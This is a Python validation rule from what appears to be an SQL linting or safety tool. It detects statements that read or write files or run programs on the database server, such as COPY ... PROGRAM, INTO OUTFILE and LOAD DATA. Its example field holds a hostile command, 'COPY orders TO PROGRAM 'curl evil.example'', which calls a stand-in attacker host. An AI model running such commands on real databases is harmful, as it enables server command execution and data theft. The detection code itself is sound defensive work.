"""risk.file_access: Reads or writes files or runs programs on the database server (INTO OUTFILE/DUMPFILE, COPY ."""

from __future__ import annotations

from sqlglot import exp
from sqlglot.tokenizer_core import TokenType

from core.domain.schema import Dialect
from core.validation.calls import FILE_FUNCTIONS, called_function
from core.validation.context import StatementContext
from core.validation.kinds import FILE
from core.validation.lex import Kind
from core.validation.model import Category, RiskLevel, Severity
from core.validation.rules import Rule
from core.validation.rules.support import mode_applies, query_violation


def check(ctx: StatementContext) -> None:
    before = len(ctx.findings)
    if mode_applies(ctx):
        query_violation(ctx, "risk.file_access")
    _tokens(ctx)
    for node in ctx.find_all(exp.Func):
        call = called_function(ctx, node)
        if call is None:
            continue
        name, _, quoted = call
        folded = name if quoted and ctx.dialect is Dialect.POSTGRESQL else name.lower()
        if folded in FILE_FUNCTIONS:
            ctx.report("risk.file_access", f"{folded}() reads or writes files or large objects on the server", node)
    tree = ctx.tree
    if isinstance(tree, exp.Copy):
        _copy(ctx, tree)
    if isinstance(tree, exp.Attach):
        ctx.report("risk.file_access", "ATTACH DATABASE opens or creates a database file on the server", tree)
    judged = isinstance(tree, exp.Copy | exp.Attach)
    if ctx.kind == FILE and not judged and not any(f.rule == "risk.file_access" for f in ctx.findings[before:]):
        what = ctx.statement.keyword
        ctx.report("risk.file_access", f"{what} reads or writes files on the database server", ctx.statement.start)


def _tokens(ctx: StatementContext) -> None:
    """MySQL INTO OUTFILE/DUMPFILE and LOAD DATA, SQLite VACUUM INTO (sqlglot cannot parse them all)."""
    toks = ctx.statement.tokens
    for i, tok in enumerate(toks[:-1]):
        nxt = toks[i + 1].text.upper()
        if tok.token_type == TokenType.INTO and nxt in ("OUTFILE", "DUMPFILE"):
            ctx.report("risk.file_access", f"INTO {nxt} writes a file on the database server", tok.start)
        if tok.text.upper() == "LOAD" and nxt in ("DATA", "XML"):
            ctx.report("risk.file_access", "LOAD DATA reads a file into a table", tok.start)
    words = [x.upper for x in ctx.statement.lexemes if x.kind is Kind.WORD][:3]
    if words[:1] == ["VACUUM"] and "INTO" in words[1:3]:
        ctx.report("risk.file_access", "VACUUM INTO writes a copy of the database to a file", ctx.statement.start)


def _copy(ctx: StatementContext, tree: exp.Copy) -> None:
    files = tree.args.get("files") or []
    to_program = any(isinstance(f, exp.Identifier) and not f.quoted and f.this.upper() == "PROGRAM" for f in files)
    endpoints = [f for f in files if not (isinstance(f, exp.Identifier) and f.this.upper() in ("STDIN", "STDOUT"))]
    direction = "FROM" if tree.args.get("kind") else "TO"
    if to_program or endpoints:
        what = "runs a program" if to_program else "reads or writes a file"
        ctx.report("risk.file_access", f"COPY ... {direction} {what} on the database server", tree)


RULE = Rule(
    "risk.file_access",
    Category.RISK,
    Severity.ERROR,
    description=(
        "Reads or writes files or runs programs on the database server (INTO OUTFILE/DUMPFILE, "
        "COPY ... PROGRAM or a file, LOAD DATA, LOAD_FILE, pg_read_file, lo_import, ATTACH "
        "DATABASE, VACUUM INTO)."
    ),
    example="COPY orders TO PROGRAM 'curl evil.example'",
    risk=RiskLevel.CRITICAL,
    check=check,
)
